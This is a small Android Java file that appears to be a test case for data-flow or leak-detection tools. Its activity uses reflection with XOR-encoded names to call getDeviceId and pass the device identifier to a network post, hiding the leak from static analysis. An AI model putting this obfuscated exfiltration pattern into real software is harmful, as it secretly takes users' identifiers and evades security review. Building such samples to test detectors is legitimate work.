package com.example.flows.reflection_hidden_name;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** The method that reads the device's number is called by a hidden name. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Object manager = getSystemService(TELEPHONY_SERVICE);
        try {
            Class<?> type = Class.forName(a.b("dkawjla+q`i`umjk|+Q`i`umjk|Hdkdb`w"));
            Object id = type.getMethod(a.b("b`qA`slf`La")).invoke(manager);
            Net.post((String) id);
        } catch (Exception e) {
            Log.w("x", "failed");
        }
    }
}
